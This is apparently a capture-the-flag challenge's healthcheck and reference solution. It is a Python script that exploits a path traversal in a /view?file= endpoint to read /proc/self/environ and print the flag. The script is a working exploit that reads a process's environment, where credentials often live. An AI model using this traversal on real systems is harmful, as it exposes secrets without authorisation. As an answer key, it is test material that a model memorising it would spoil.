#!/usr/bin/env python3
"""Healthcheck and reference solve: print the flag of a running instance.

Usage: healthcheck.py http://host:port  (exit 0 when a flag comes back)
"""

import re
import sys
import urllib.request

base = sys.argv[1].rstrip("/") if len(sys.argv) > 1 else "http://127.0.0.1:8080"
# Extra "../" stop at / and do no harm.
url = f"{base}/view?file=" + "../" * 8 + "proc/self/environ"
with urllib.request.urlopen(url, timeout=10) as response:  # noqa: S310 - http URL
    environ = response.read().decode(errors="replace")
match = re.search(r"CTF\{[^}]*\}", environ)
if not match:
    sys.exit("no flag in the response")
print(match.group(0))
